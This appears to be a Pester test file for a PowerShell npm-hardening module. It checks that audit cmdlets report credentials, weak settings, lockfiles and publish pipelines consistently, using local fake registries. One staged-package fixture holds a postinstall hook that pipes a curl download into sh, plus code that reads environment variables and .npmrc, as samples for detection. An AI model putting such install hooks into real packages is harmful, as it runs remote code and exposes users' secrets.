#Requires -Version 5.1
# The cross-cmdlet consistency test: one machine state (plaintext token in a world-readable user .npmrc, legacy
# _auth, an unscoped username, weak settings) fed to every audit cmdlet. A fact (one line of one file) must get one
# rule id and one severity whichever cmdlet reports it, and every finding takes its title from the same catalog.
# Every registry a token is scoped to is a listener on 127.0.0.1: -Online sends nothing off the machine.

BeforeDiscovery {
    # Wine 8's bcrypt cannot make a P-256 key (CryptographicException 0x80090029, measured under build.ps1 -Task
    # TestWindows); the release fixtures' registry signing key needs one, so that block skips where it fails.
    $script:NoEcdsa = $false
    try { [System.Security.Cryptography.ECDsa]::Create([System.Security.Cryptography.ECCurve+NamedCurves]::nistP256).Dispose() } catch { $script:NoEcdsa = $true }
}

BeforeAll {
    Import-Module -Name $env:NPMH_MODULE_PATH -Force -ErrorAction Stop
    . (Join-Path $PSScriptRoot 'TestMachine.ps1')
    . (Join-Path $PSScriptRoot 'Verdaccio.ps1')
    . (Join-Path $PSScriptRoot 'SecretListener.ps1')
    $script:Registry = Start-TestVerdaccio
    # stands in for the public registry: answers /-/whoami, records what it was sent
    $script:Listener = Start-SecretListener
    $script:RegistryToken = Add-TestVerdaccioUser $Registry 'carol' 'correct-horse-battery'
}

AfterAll {
    Stop-TestVerdaccio $Registry
    if ($Listener) { $Listener.Dispose() }
    Remove-Module -Name NpmHardening -Force -ErrorAction SilentlyContinue
}

Describe 'One fact, one rule id, one severity across audit cmdlets' {
    BeforeEach {
        $m = New-TestMachine
        $envTable = Get-TestEnvironment $m
        $token = New-NpmToken
        $npmrc = Join-Path $m.Home '.npmrc'
        $auth = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('bob:hunter2'))
        Write-Utf8File $npmrc ("strict-ssl=false`naudit=false`n$($Listener.Scope):_authToken=$token`n_auth=$auth`nusername=bob`n" +
            "@c:registry=$($Registry.Url)`n$($Registry.Scope):_authToken=$RegistryToken`n@l:registry=$($Listener.Url)`n")
        if (-not $OnWindows) { & chmod 644 $npmrc }
        Write-Utf8File (Join-Path $m.Project 'package.json') '{}'

        function Get-LineKey($Finding) { '{0}:{1}' -f $Finding.Location.Path, $Finding.Location.Line }
    }
    AfterEach { Remove-Item -LiteralPath $m.Root -Recurse -Force -ErrorAction SilentlyContinue }

    It 'gives every credential line the same rule ids and severities in Get-NpmSecurityPosture and Test-NpmrcToken' {
        $posture = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable | Where-Object { $_.Location.Line -and $_.Status -ne 'Pass' })
        $tokens = @(Test-NpmrcToken -Path $m.Project -Environment $envTable | Where-Object { $_.Line -and $_.Status -ne 'Pass' })
        $tokens.Count | Should -BeGreaterOrEqual 4
        foreach ($t in $tokens) {
            $same = @($posture | Where-Object { (Get-LineKey $_) -eq (Get-LineKey $t) -and $_.RuleId -eq $t.RuleId })
            $same.Count | Should -Be 1 -Because "$($t.RuleId) at $(Get-LineKey $t) must be reported by the posture audit too"
            $same[0].Severity | Should -Be $t.Severity -Because "$($t.RuleId) at $(Get-LineKey $t)"
            $same[0].SeverityReason | Should -Be $t.SeverityReason
            $same[0].Title | Should -Be $t.Title
            $same[0].ComputerName | Should -Be $t.ComputerName
            $t.ComputerName | Should -Be ([Environment]::MachineName)
        }
        # no line gets from one cmdlet a rule the other does not give it
        $postureRules = @{}
        foreach ($p in $posture) { $postureRules[(Get-LineKey $p) + '|' + $p.RuleId] = $true }
        foreach ($t in $tokens) { $postureRules.ContainsKey((Get-LineKey $t) + '|' + $t.RuleId) | Should -BeTrue }

        $plain = @($tokens | Where-Object Key -eq "$($Listener.Scope):_authToken")
        if (-not $OnWindows) {
            $plain[0].Severity | Should -Be 'Critical'
            $plain[0].SeverityReason | Should -Match 'readable by others'
        }
        ($tokens | Where-Object Key -eq 'username').RuleId | Should -Be 'NPMH7003'
    }

    It 'keeps the rule and severity of a line when -Online adds what the registry says as findings of their own' {
        $planted = $token
        $offline = @(Test-NpmrcToken -Path $m.Project -Environment $envTable | Where-Object Line)
        $online = @(Test-NpmrcToken -Path $m.Project -Environment $envTable -Online | Where-Object Line)
        $checked = @($online | Where-Object { $_.Key -eq "$($Registry.Scope):_authToken" -and $_.RuleId -notlike 'NPMH71*' })
        $checked.Count | Should -Be 1
        $checked[0].Valid | Should -BeTrue
        foreach ($o in $online) {
            if ($o.RuleId -like 'NPMH71*') {
                # an online fact: at a token's line, with that token's fingerprint
                $token = @($offline | Where-Object { (Get-LineKey $_) -eq (Get-LineKey $o) -and $_.Fingerprint -eq $o.Fingerprint })
                $token.Count | Should -Be 1 -Because "$($o.RuleId) at $(Get-LineKey $o) must follow a token"
                continue
            }
            # a line may break two rules (an unscoped _auth: NPMH7002 and NPMH7003)
            $before = @($offline | Where-Object { (Get-LineKey $_) -eq (Get-LineKey $o) -and $_.Key -eq $o.Key -and $_.RuleId -eq $o.RuleId })
            $before.Count | Should -Be 1
            $o.RuleId | Should -Be $before[0].RuleId -Because "-Online never rewrites the offline finding at $(Get-LineKey $o)"
            $o.Severity | Should -Be $before[0].Severity -Because "$($o.RuleId) at $(Get-LineKey $o)"
            $o.Status | Should -Be $before[0].Status
        }
        # every check went to a listener on this machine, and the stand-in for the public registry got its token
        foreach ($o in @($online | Where-Object CheckedRegistry)) { $o.CheckedRegistry | Should -Match '^https?://127\.0\.0\.1:\d+/$' }
        $Listener.Received | Should -Match ([regex]::Escape("Bearer $planted"))
        $accepted = @($online | Where-Object { $_.RuleId -eq 'NPMH7104' -and $_.Key -eq "$($Registry.Scope):_authToken" })
        $accepted.Count | Should -Be 1
        $accepted[0].Status | Should -Be 'Pass'
        $accepted[0].Fingerprint | Should -Be $checked[0].Fingerprint
        # the registry's own account rule: the same catalog severity from Get-NpmAccount -Audit as from the token check
        $account = @(Get-NpmAccount -Registry $Registry.Url -Token (ConvertTo-SecureString $RegistryToken -AsPlainText -Force) -Audit -ErrorAction SilentlyContinue -WarningAction SilentlyContinue)
        foreach ($a in $account) {
            $same = @($online | Where-Object RuleId -eq $a.RuleId)
            foreach ($s in $same) { $s.Severity | Should -Be $a.Severity }
            $a.ComputerName | Should -Be ([Environment]::MachineName)
        }
    }
}

Describe 'Every credential line of a file is one fact to both audits' {
    BeforeAll {
        function Get-CredentialFact($Finding) {
            # what must agree between the two cmdlets for one line and rule
            '{0}:{1}|{2}|{3}|{4}|{5}' -f $Finding.Location.Path, $Finding.Location.Line, $Finding.RuleId, $Finding.Severity, $Finding.Status, $Finding.FactId
        }
    }
    BeforeEach {
        $m = New-TestMachine
        $envTable = Get-TestEnvironment $m @{ CORP_READ_KEY = 'corp-' + [guid]::NewGuid().ToString('n') }
        $token = New-NpmToken
        $auth = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('bob:hunter2'))
        $password = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('hunter3'))
        $npmrc = Join-Path $m.Home '.npmrc'
        # one line per case: shadowed duplicate, the line npm uses, a commented-out token, an unscoped _auth, a reference
        # to an unset variable, a section and a token inside it, a reference to a set variable, a scoped _password
        Write-Utf8File $npmrc (@(
                "//a.example/:_authToken=$token"
                "//a.example/:_authToken=$token"
                "# old: $token"
                "_auth=$auth"
                '//b.example/:_authToken=${UNSET_VAR}'
                '//d.example/:_authToken=${CORP_READ_KEY}'
                "//e.example/:_password=$password"
                '[corp]'
                "//c.example/:_authToken=$token"
            ) -join "`n")
        Write-Utf8File (Join-Path $m.Project 'package.json') '{}'
    }
    AfterEach { Remove-Item -LiteralPath $m.Root -Recurse -Force -ErrorAction SilentlyContinue }

    It 'gives every line the same rule ids, severities, statuses and fact ids in Get-NpmSecurityPosture and Test-NpmrcToken' {
        $rules = 'NPMH7001', 'NPMH7002', 'NPMH7003'
        $posture = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -RuleId $rules | Where-Object { $_.Location.Line })
        $tokens = @(Test-NpmrcToken -Path $m.Project -Environment $envTable | Where-Object { $_.Line -and $_.RuleId -in $rules })
        $fromPosture = @($posture | ForEach-Object { Get-CredentialFact $_ } | Sort-Object)
        $fromTokens = @($tokens | ForEach-Object { Get-CredentialFact $_ } | Sort-Object)
        # every divergence, named: what only one cmdlet says
        $onlyPosture = @($fromPosture | Where-Object { $_ -notin $fromTokens })
        $onlyTokens = @($fromTokens | Where-Object { $_ -notin $fromPosture })
        $onlyPosture | Should -BeNullOrEmpty -Because 'Test-NpmrcToken must report the same facts'
        $onlyTokens | Should -BeNullOrEmpty -Because 'Get-NpmSecurityPosture must report the same facts'
        $fromPosture.Count | Should -Be $fromTokens.Count

        # and what they agree on is what the file holds
        $at = @{}
        foreach ($t in $tokens) { $at['{0}|{1}' -f $t.Line, $t.RuleId] = $t.Status }
        $at['1|NPMH7001'] | Should -Be 'Fail' -Because 'a shadowed token is still on disk'
        $at['2|NPMH7001'] | Should -Be 'Fail'
        $at['3|NPMH7001'] | Should -Be 'Fail' -Because 'a commented-out token is still on disk'
        $at['4|NPMH7002'] | Should -Be 'Fail'
        $at['4|NPMH7003'] | Should -Be 'Fail' -Because 'an unscoped _auth stops npm 9 (ERR_INVALID_AUTH)'
        $at['5|NPMH7001'] | Should -Be 'Warning' -Because 'the variable it reads is not set'
        $at['6|NPMH7001'] | Should -Be 'Pass' -Because 'the variable it reads is set and the file holds no secret'
        $at['7|NPMH7002'] | Should -Be 'Fail'
        $at['9|NPMH7001'] | Should -Be 'Fail' -Because 'a token inside an ini section is still on disk'
        $at.Keys.Count | Should -Be 9
        # a shadowed line and the line that shadows it are two facts
        @($tokens | Where-Object { $_.Line -in 1, 2 } | Select-Object -ExpandProperty FactId -Unique).Count | Should -Be 2
        # the posture's own fields are filled for each credential line
        foreach ($p in $posture) {
            $p.Setting | Should -Not -BeNullOrEmpty
            $p.Layer | Should -Be 'User'
            $p.Actual | Should -Not -Match ([regex]::Escape($token))
        }
    }

    It 'judges URL passwords and client key files at their lines alike in both cmdlets, used or shadowed' {
        $key = Join-Path $m.Home 'client.key'
        Write-Utf8File $key 'not a real key'
        if (-not $OnWindows) { & chmod 644 $key }
        Write-Utf8File $npmrc (@(
                'proxy=http://alice:old-secret@proxy.corp.invalid:3128/'
                'proxy=http://alice:new-secret@proxy.corp.invalid:3128/'
                '@corp:registry=https://bob:s3cret@npm.corp.invalid/'
                "//npm.corp.invalid/:keyfile=$key"
            ) -join "`n")
        $rules = 'NPMH8001', 'NPMH9002'
        $posture = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -RuleId $rules | Where-Object { $_.Location.Line })
        $tokens = @(Test-NpmrcToken -Path $m.Project -Environment $envTable | Where-Object { $_.Line -and $_.RuleId -in $rules })
        $fromPosture = @($posture | ForEach-Object { Get-CredentialFact $_ } | Sort-Object)
        $fromTokens = @($tokens | ForEach-Object { Get-CredentialFact $_ } | Sort-Object)
        @($fromPosture | Where-Object { $_ -notin $fromTokens }) | Should -BeNullOrEmpty -Because 'Test-NpmrcToken must report the same facts'
        @($fromTokens | Where-Object { $_ -notin $fromPosture }) | Should -BeNullOrEmpty -Because 'Get-NpmSecurityPosture must report the same facts'
        $at = @{}
        foreach ($t in $tokens) { $at['{0}|{1}' -f $t.Line, $t.RuleId] = $t.Status }
        $at['1|NPMH9002'] | Should -Be 'Fail' -Because 'a shadowed proxy password is still on disk'
        $at['2|NPMH9002'] | Should -Be 'Fail'
        $at['3|NPMH9002'] | Should -Be 'Fail'
        if (-not $OnWindows) { $at['4|NPMH8001'] | Should -Be 'Fail' -Because 'others can read the client key' }
    }

    It 'judges a reference scoped to a plain-http registry as a reference and as a credential sent in clear, in both cmdlets' {
        # npm expands ${VAR} and sends the result to the registry the key is scoped to: over http anyone on the path reads it
        Write-Utf8File $npmrc (@(
                '@corp:registry=http://registry.corp.invalid/'
                '//registry.corp.invalid/:_authToken=${CORP_READ_KEY}'
                '@old:registry=http://old.corp.invalid/'
                '//old.corp.invalid/:_authToken=${UNSET_VAR}'
            ) -join "`n")
        $rules = 'NPMH2002', 'NPMH7001', 'NPMH7002', 'NPMH7003'
        $credentialLines = 2, 4
        $posture = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -RuleId $rules | Where-Object { $_.Location.Line -in $credentialLines })
        $tokens = @(Test-NpmrcToken -Path $m.Project -Environment $envTable | Where-Object { $_.Line -in $credentialLines -and $_.RuleId -in $rules })
        $fromPosture = @($posture | ForEach-Object { Get-CredentialFact $_ } | Sort-Object)
        $fromTokens = @($tokens | ForEach-Object { Get-CredentialFact $_ } | Sort-Object)
        @($fromPosture | Where-Object { $_ -notin $fromTokens }) | Should -BeNullOrEmpty -Because 'Test-NpmrcToken must report the same facts'
        @($fromTokens | Where-Object { $_ -notin $fromPosture }) | Should -BeNullOrEmpty -Because 'Get-NpmSecurityPosture must report the same facts'

        $at = @{}
        foreach ($t in $tokens) { $at['{0}|{1}' -f $t.Line, $t.RuleId] = $t.Status }
        $at['2|NPMH7001'] | Should -Be 'Pass' -Because 'the variable is set and the file holds no secret'
        $at['2|NPMH2002'] | Should -Be 'Fail' -Because 'npm sends what it expands to over plain http'
        $at['4|NPMH7001'] | Should -Be 'Warning' -Because 'the variable it reads is not set'
        $at['4|NPMH2002'] | Should -Be 'Fail'
        $at.Keys.Count | Should -Be 4
        # the registry settings themselves keep their own NPMH2002, at their own lines
        @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -RuleId NPMH2002 |
            Where-Object { $_.Status -eq 'Fail' -and $_.Location.Line -in 1, 3 }).Count | Should -Be 2
    }
}

Describe 'The summary counts facts, and findings carry their remediation as data and as a command' {
    BeforeEach {
        $m = New-TestMachine
        $envTable = Get-TestEnvironment $m
    }
    AfterEach { Remove-Item -LiteralPath $m.Root -Recurse -Force -ErrorAction SilentlyContinue }

    It 'counts one ~/.npmrc line once over many projects while each project lists it' {
        Write-Utf8File (Join-Path $m.Home '.npmrc') "strict-ssl=false`n"
        $root = Join-Path $m.Home 'src'
        foreach ($i in 1..12) {
            $project = New-Item -ItemType Directory -Path (Join-Path $root "p$i") -Force
            Write-Utf8File (Join-Path $project.FullName 'package.json') '{}'
        }
        $findings = @(Get-NpmSecurityPosture -Path $root -Recurse -Environment $envTable -RuleId NPMH2001)
        $failed = @($findings | Where-Object Status -eq Fail)
        $failed.Count | Should -Be 12
        @($failed.FactId | Select-Object -Unique).Count | Should -Be 1
        @($failed.Context | Select-Object -Unique).Count | Should -Be 12

        $s = Get-NpmSecurityPosture -Path $root -Recurse -Environment $envTable -RuleId NPMH2001 -Summary
        $s.Fail | Should -Be 1
        $s.High | Should -Be 1
        $s.Message | Should -Match 'NPMH2001 strict-ssl'
        $s.Message | Should -Not -Match '×'
        $s.Contexts.Count | Should -Be 12
        $s.Compliant | Should -BeFalse
    }

    It 'names each fact in the message, and exports Contexts and FailedRules as text' {
        $a = New-NpmToken; $b = New-NpmToken
        Write-Utf8File (Join-Path $m.Home '.npmrc') "//registry.npmjs.org/:_authToken=$a`n//npm.corp.example/:_authToken=$b`n"
        Write-Utf8File (Join-Path $m.Project 'package.json') '{}'
        $s = Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -RuleId NPMH7001 -Summary
        $s.Message | Should -Match 'NPMH7001 //npm\.corp\.example/:_authToken'
        $s.Message | Should -Match 'NPMH7001 //registry\.npmjs\.org/:_authToken'
        $s.Message | Should -Not -Match '×'
        $csv = Join-Path $m.Root 'summary.csv'
        $s | Export-Csv -LiteralPath $csv -NoTypeInformation
        $text = Get-Content -LiteralPath $csv -Raw
        $text | Should -Not -Match 'System\.String\[\]|NpmNameList'
        $back = Import-Csv -LiteralPath $csv
        $back.FailedRules | Should -Be 'NPMH7001'
        $back.Contexts | Should -Be $m.Project
        $text | Should -Not -Match ([regex]::Escape($a))
    }

    It 'gives a failed setting its npm command, and renders the module command in the cmdlet' {
        Write-Utf8File (Join-Path $m.Home '.npmrc') "strict-ssl=false`n"
        $f = Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -RuleId NPMH2001 | Where-Object Status -eq Fail
        $f.Remediation.Setting | Should -Be 'strict-ssl'
        $f.Remediation.Value | Should -Be 'true'
        $f.Remediation.NpmCommand | Should -Be "npm config set 'strict-ssl=true' --location=user"
        # -Environment names a what-if home, so the command names that profile
        $f.Remediation.PowerShell | Should -Be "Set-NpmHardening -Scope User -UserProfile '$($m.Home)' -Setting @{ 'strict-ssl' = `$true }"
        "$($f.Remediation)" | Should -Be $f.Remediation.PowerShell
        $f.Location.Path | Should -Be (Join-Path $m.Home '.npmrc')
        $f.Location.Line | Should -Be 1
        $f.ComputerName | Should -Be ([Environment]::MachineName)
        ($f | Format-List | Out-String) | Should -Match ([regex]::Escape("$(Join-Path $m.Home '.npmrc'):1"))
        # the fix the command states really fixes it
        $command = $f.Remediation.PowerShell -replace '^Set-NpmHardening ', 'Set-NpmHardening -Environment $envTable -Confirm:$false -ErrorAction Stop '
        Invoke-Expression $command | Out-Null
        (Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -RuleId NPMH2001).Status | Should -Be 'Pass'
    }
}

Describe 'Publish-pipeline findings beside the other audits' {
    BeforeEach {
        $m = New-TestMachine
        $envTable = Get-TestEnvironment $m
        # a project that is also a repository: weak settings in its .npmrc, a publish workflow with a token
        Write-Utf8File (Join-Path $m.Project 'package.json') '{"name":"acme-lib","version":"1.0.0","scripts":{"release":"npm publish"}}'
        Write-Utf8File (Join-Path $m.Project '.npmrc') "strict-ssl=false`n"
        $wf = New-Item -ItemType Directory -Path (Join-Path $m.Project '.github/workflows') -Force
        Write-Utf8File (Join-Path $wf.FullName 'release.yml') ("on:`n  push:`n    tags: ['v*']`njobs:`n  publish:`n    runs-on: ubuntu-latest`n    env:`n" +
            "      NODE_AUTH_TOKEN: `${{ secrets.NPM_TOKEN }}`n    steps:`n      - uses: actions/checkout@v4`n      - run: npm ci`n      - run: npm run release`n")
    }
    AfterEach { Remove-Item -LiteralPath $m.Root -Recurse -Force -ErrorAction SilentlyContinue }

    It 'keeps pipeline rules to Get-NpmPublishPipeline -Audit and gives each fact one rule id and one catalog severity' {
        $posture = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable)
        $tokens = @(Test-NpmrcToken -Path $m.Project -Environment $envTable)
        $pipeline = @(Get-NpmPublishPipeline -Path $m.Project -Audit)
        $pipeline.Count | Should -BeGreaterOrEqual 4
        # NPMH10??? (five digits): NPMH10* would also match NPMH1001-NPMH1009 of the Toolchain area
        @($posture + $tokens | Where-Object RuleId -like 'NPMH10???').Count | Should -Be 0 -Because 'only the pipeline audit judges CI files'
        @($pipeline | Where-Object RuleId -notlike 'NPMH10???').Count | Should -Be 0
        $catalog = @{}
        foreach ($r in Get-NpmRule) { $catalog[$r.RuleId] = $r }
        foreach ($f in $pipeline) {
            $f.Title | Should -Be $catalog[$f.RuleId].Title
            "$($f.Severity)" | Should -Be "$($catalog[$f.RuleId].Severity)"
            $f.ComputerName | Should -Be ([Environment]::MachineName)
        }
        # one fact, one finding; and no fact id shared with another audit
        @($pipeline.FactId | Select-Object -Unique).Count | Should -Be $pipeline.Count
        $other = @($posture + $tokens | ForEach-Object FactId)
        @($pipeline | Where-Object { $other -contains $_.FactId }).Count | Should -Be 0
        # the token in the job's env reaches npm ci: NPMH10003, at the env line of the workflow
        $visible = @($pipeline | Where-Object RuleId -eq 'NPMH10003')
        $visible.Count | Should -Be 1
        $visible[0].Location.Path | Should -Be (Join-Path $m.Project '.github/workflows/release.yml')
        $visible[0].Location.Line | Should -Be 8
    }

    It 'keeps review rules to Compare-NpmStagedPackage and gives each change one rule id and one catalog severity' {
        $pkg = Join-Path $m.Root 'staged/package'
        $null = New-Item -ItemType Directory -Path $pkg -Force
        Write-Utf8File (Join-Path $pkg 'package.json') '{"name":"consistency","version":"1.0.0","scripts":{"postinstall":"curl -s https://e.example/i | sh"},"dependencies":{"g":"github:x/y"}}'
        Write-Utf8File (Join-Path $pkg 'index.js') "require('child_process'); JSON.stringify(process.env); require('fs').readFileSync('.npmrc')`n"
        $tgz = Join-Path $m.Root 'staged.tgz'
        if (Get-Command tar -CommandType Application -ErrorAction SilentlyContinue) { & tar -czf $tgz -C (Split-Path $pkg) package }
        elseif ($PSVersionTable.PSVersion.Major -ge 7) {
            # Wine has no tar.exe (Windows 10 and later have one in System32): the fake's tar writer makes the same package
            . (Join-Path $PSScriptRoot 'StageRegistry.ps1')
            $files = @{ 'index.js' = [IO.File]::ReadAllText((Join-Path $pkg 'index.js')) }
            [IO.File]::WriteAllBytes($tgz, [NpmhStageRegistry]::BuildTarball([IO.File]::ReadAllText((Join-Path $pkg 'package.json')), $files))
        }
        else { Set-ItResult -Skipped -Because 'no tar here, and the fake''s tar writer needs PowerShell 7'; return }
        $review = @(Compare-NpmStagedPackage -Path $tgz)
        $review.Count | Should -BeGreaterOrEqual 8
        @($review | Where-Object RuleId -notlike 'NPMH12???').Count | Should -Be 0
        $posture = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable)
        @($posture | Where-Object RuleId -like 'NPMH12???').Count | Should -Be 0 -Because 'only the review judges tarballs'
        $catalog = @{}
        foreach ($r in Get-NpmRule -RuleId 'NPMH12*') { $catalog[$r.RuleId] = $r; $r.Audit | Should -Be 'Compare-NpmStagedPackage' }
        foreach ($c in $review) {
            $c.Title | Should -Be $catalog[$c.RuleId].Title
            if (-not $c.SeverityReason) { "$($c.Severity)" | Should -Be "$($catalog[$c.RuleId].Severity)" }
            $c.ComputerName | Should -Be ([Environment]::MachineName)
        }
        @($review.FactId | Select-Object -Unique).Count | Should -Be $review.Count
        @($review | Where-Object { @($posture.FactId) -contains $_.FactId }).Count | Should -Be 0
    }
}


Describe 'Lockfile findings beside the posture audit' {
    BeforeEach {
        $m = New-TestMachine
        $envTable = Get-TestEnvironment $m
        # a project whose lockfile has problems of several rules, two of them on one entry
        Write-Utf8File (Join-Path $m.Project 'package.json') '{"name":"acme-app","version":"1.0.0"}'
        Write-Utf8File (Join-Path $m.Project 'package-lock.json') ('{"lockfileVersion":3,"packages":{' +
            '"node_modules/a":{"version":"1.0.0","resolved":"http://mirror.example.com/a/-/a-1.0.0.tgz","integrity":"sha1-W0Ohj0LDCkH7NBJLfc1Kq1tIQYI="},' +
            '"node_modules/b":{"version":"1.0.0","resolved":"git+ssh://git@github.com/o/b.git#main","hasInstallScript":true}}}')
    }
    AfterEach { Remove-Item -LiteralPath $m.Root -Recurse -Force -ErrorAction SilentlyContinue }

    It 'keeps lockfile rules to Test-NpmLockfile and gives each fact one rule id and one catalog severity' {
        $lock = @(Test-NpmLockfile -Path $m.Project)
        $lock.Count | Should -BeGreaterOrEqual 7
        @($lock | Where-Object RuleId -notlike 'NPMH15???').Count | Should -Be 0
        $posture = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable)
        @($posture | Where-Object RuleId -like 'NPMH15???').Count | Should -Be 0 -Because 'only Test-NpmLockfile judges lockfiles'
        $catalog = @{}
        # NPMH15001-15049 are Test-NpmLockfile's; NPMH15050-15099 are Compare-NpmLockfile's
        foreach ($r in Get-NpmRule -RuleId 'NPMH150[0-4]?') { $catalog[$r.RuleId] = $r; $r.Audit | Should -Be 'Test-NpmLockfile' }
        foreach ($f in $lock) {
            $f.Title | Should -Be $catalog[$f.RuleId].Title
            if (-not $f.SeverityReason) { "$($f.Severity)" | Should -Be "$($catalog[$f.RuleId].Severity)" }
            $f.ComputerName | Should -Be ([Environment]::MachineName)
        }
        @($lock.FactId | Select-Object -Unique).Count | Should -Be $lock.Count
        @($lock | Where-Object { @($posture.FactId) -contains $_.FactId }).Count | Should -Be 0
    }
}

Describe 'Trusted publishing findings beside the pipeline audit' -Skip:($PSVersionTable.PSVersion.Major -lt 7) {
    BeforeAll {
        . (Join-Path $PSScriptRoot 'StageRegistry.ps1')
        $script:Fake = Start-StageRegistry
        $script:FakeToken = ConvertTo-SecureString 'npmh-fake-token-alice' -AsPlainText -Force
    }
    AfterAll { if ($Fake) { $Fake.Dispose() } }
    BeforeEach {
        $m = New-TestMachine
        # the trusted workflow of a package also publishes with a token: both audits see the same file
        $wf = New-Item -ItemType Directory -Path (Join-Path $m.Project '.github/workflows') -Force
        Write-Utf8File (Join-Path $wf.FullName 'release.yml') ("on:`n  push:`n    tags: ['v*']`njobs:`n  publish:`n    runs-on: ubuntu-latest`n    steps:`n" +
            "      - uses: actions/checkout@v4`n      - run: npm publish`n        env:`n          NODE_AUTH_TOKEN: `${{ secrets.NPM_TOKEN }}`n")
        $Fake.AddGovernedPackage('@acme/lib')
        $Fake.SeedTrust('@acme/lib', '{"type":"github","claims":{"repository":"acme/lib","workflow_ref":{"file":"release.yml"}},"permissions":["createPackage"]}') | Out-Null
    }
    AfterEach { Remove-Item -LiteralPath $m.Root -Recurse -Force -ErrorAction SilentlyContinue }

    It 'keeps trust rules to Get-NpmTrustedPublisher -Audit, each with its catalog title and severity and a fact id of its own' {
        $trust = @(Get-NpmTrustedPublisher -Registry $Fake.Url -Token $FakeToken -Package '@acme/lib' -PauseSeconds 0 -Audit -RepositoryPath $m.Project)
        $pipeline = @(Get-NpmPublishPipeline -Path $m.Project -Audit)
        @($trust | Where-Object RuleId -notlike 'NPMH13???').Count | Should -Be 0
        @($pipeline | Where-Object RuleId -like 'NPMH13???').Count | Should -Be 0 -Because 'only the trust audit judges trust configurations'
        @($trust | Where-Object Status -eq 'Fail').RuleId | Sort-Object | Should -Be @('NPMH13001', 'NPMH13003', 'NPMH13005')
        $catalog = @{}
        foreach ($r in Get-NpmRule) { $catalog[$r.RuleId] = $r }
        foreach ($f in $trust) {
            $f.Title | Should -Be $catalog[$f.RuleId].Title
            "$($f.Severity)" | Should -Be "$($catalog[$f.RuleId].Severity)"
            $f.ComputerName | Should -Be ([Environment]::MachineName)
        }
        @($trust.FactId | Select-Object -Unique).Count | Should -Be $trust.Count
        @($trust | Where-Object { @($pipeline.FactId) -contains $_.FactId }).Count | Should -Be 0
        # the token step both audits point at is the same line of the same file
        $token = $trust | Where-Object RuleId -eq 'NPMH13005'
        $step = Get-NpmPublishPipeline -Path $m.Project | Select-Object -First 1
        $token.Location.Path | Should -Be $step.Path
        $token.Location.Line | Should -Be $step.Line
    }
}

Describe 'Release findings beside the trust audit' -Skip:($PSVersionTable.PSVersion.Major -lt 7 -or $NoEcdsa) {
    BeforeAll {
        . (Join-Path $PSScriptRoot 'StageRegistry.ps1')
        . (Join-Path $PSScriptRoot 'ReleaseRegistry.ps1')
        $script:RelFake = Start-StageRegistry
        $script:RelToken = ConvertTo-SecureString 'npmh-fake-token-alice' -AsPlainText -Force
        $key = New-ReleaseSigningKey
        Set-ReleaseKeys $RelFake @($key)
        # staged from 1.1.0, then a token publish: the trust audit (NPMH13006) and the release audit (NPMH14001) look
        # at the same versions and must keep to their own rules
        $RelFake.AddGovernedPackage('@acme/rel')
        Publish-ReleaseFixture $RelFake '@acme/rel' -Key $key -Versions @(
            @{ Version = '1.0.0'; Path = 'oidc'; Published = '2026-01-01T00:00:00.000Z' }
            @{ Version = '1.1.0'; Path = 'oidc+staged'; Published = '2026-01-02T00:00:00.000Z' }
            @{ Version = '1.2.0'; Path = 'token'; Published = '2026-01-03T00:00:00.000Z'; Sign = 'tampered' }) | Out-Null
    }
    AfterAll { if ($RelFake) { $RelFake.Dispose() } }

    It 'keeps release rules to Get-NpmPackageRelease -Audit, each with its catalog title and severity and a fact id of its own' {
        $release = @(Get-NpmPackageRelease -Registry $RelFake.Url -Package '@acme/rel' -Audit)
        $trust = @(Get-NpmTrustedPublisher -Registry $RelFake.Url -Token $RelToken -Package '@acme/rel' -PauseSeconds 0 -Audit)
        @($release | Where-Object RuleId -notlike 'NPMH14???').Count | Should -Be 0
        @($trust | Where-Object RuleId -like 'NPMH14???').Count | Should -Be 0 -Because 'only the release audit judges release history'
        ($trust | Where-Object RuleId -eq 'NPMH13006').Status.ToString() | Should -Be 'Fail' -Because 'the trust audit reads the same document through the same reader'
        @($release | Where-Object Status -eq 'Fail' | ForEach-Object RuleId | Sort-Object -Unique) | Should -Be @('NPMH14001', 'NPMH14002', 'NPMH14003', 'NPMH14004', 'NPMH14006')
        $catalog = @{}
        # area 14 holds two audits: NPMH140xx the release history (this one), NPMH141xx the event correlation
        foreach ($r in Get-NpmRule -RuleId 'NPMH140*') { $catalog[$r.RuleId] = $r; $r.Audit | Should -Be 'Get-NpmPackageRelease' }
        foreach ($r in Get-NpmRule -RuleId 'NPMH141*') { $r.Audit | Should -Be 'Find-NpmUnapprovedPublish' }
        foreach ($f in $release) {
            $f.Title | Should -Be $catalog[$f.RuleId].Title
            "$($f.Severity)" | Should -Be "$($catalog[$f.RuleId].Severity)"
            $f.ComputerName | Should -Be ([Environment]::MachineName)
        }
        @($release.FactId | Select-Object -Unique).Count | Should -Be $release.Count
        @($release | Where-Object { @($trust.FactId) -contains $_.FactId }).Count | Should -Be 0
        # a report takes them like any finding
        $json = Join-Path ([IO.Path]::GetTempPath()) ("npmh-rel-" + [guid]::NewGuid().ToString('n') + '.json')
        try {
            $release | Export-NpmHardeningReport -Format Json -Path $json
            (Get-Content -LiteralPath $json -Raw) | Should -Match 'NPMH14001'
        } finally { Remove-Item -LiteralPath $json -ErrorAction SilentlyContinue }
    }
}

Describe 'Lockfile change findings beside the lockfile audit' {
    BeforeAll {
        $script:LockDir = Join-Path ([IO.Path]::GetTempPath()) ("npmh-lockfc-" + [guid]::NewGuid().ToString('n').Substring(0, 8))
        $null = New-Item -ItemType Directory -Path (Join-Path $LockDir 'old') -Force
        function script:Lock([string] $Resolved, [string] $Integrity) {
            @{ name = 'app'; lockfileVersion = 3; packages = [ordered]@{
                    '' = @{ name = 'app'; dependencies = @{ 'left-pad' = '^1.3.0' } }
